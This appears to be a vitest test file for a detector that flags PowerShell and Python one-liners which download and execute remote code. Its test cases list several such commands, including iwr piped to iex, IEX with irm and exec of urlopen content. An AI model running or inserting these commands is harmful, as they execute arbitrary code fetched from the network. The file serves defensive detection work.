import { expect, test } from "vitest";
import { remoteCodeIn } from "./remote-code.ts";

test.each([
  ["iwr https://x.io/i.ps1 | iex", true],
  ["Invoke-WebRequest -Uri $u -UseBasicParsing | Invoke-Expression", true],
  ["iex ((New-Object System.Net.WebClient).DownloadString('https://chocolatey.org/install.ps1'))", true],
  ["IEX (irm https://x.io)", true],
  ["exec(urllib.request.urlopen('https://x.io').read())", true],
  ["iwr https://x.io -OutFile tool.exe", false],
  ["Write-Host iex", false],
])("%s: %s", (text, runs) => expect(remoteCodeIn(text).length > 0).toBe(runs));
